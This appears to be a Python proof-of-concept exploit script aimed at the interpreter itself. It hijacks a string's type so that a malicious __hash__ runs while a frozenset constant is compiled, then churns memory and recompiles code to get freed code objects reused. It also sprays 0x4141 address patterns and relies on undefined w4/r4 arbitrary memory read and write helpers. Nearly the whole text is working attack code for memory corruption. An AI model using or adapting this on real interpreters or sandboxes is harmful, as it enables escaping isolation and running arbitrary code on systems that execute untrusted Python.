# An interned string gets the shape of the program's class. Building a frozenset constant then asks it for a hash, so
# guest code runs while code is being loaded. It tries to get that code freed and its memory used for other code.
import struct
depth = [0]
kept = []
class H:
    __slots__ = ()
    def __hash__(self):
        if depth[0]: return 1
        depth[0] = 1
        for i in range(100000): [i] * 300
        for i in range(100):
            kept.append(compile("pass", "t" + str(i), "exec"))
        return 1
    def __eq__(self, other): return False

numbers = [struct.unpack("<d", struct.pack("<Q", 0x0000_4141_4141_0000 + i * 0x100))[0] for i in range(1000)]
code = compile("x = 5 in {'zzz_victim', 'zzz_other', 'zzz_third', 'zzz_fourth'}\n" +
    "\n".join(f"y = {number!r}" for number in numbers), "t", "exec")
h = H()
w4(id('zzz_victim'), r4(id(h)))
# The same code with other globals is loaded once more; its tree stays.
try: exec(code, {})
except BaseException as e: print(repr(e))
for code in kept:
    try: exec(code, {"b": 1})
    except Exception as e: print(repr(e))
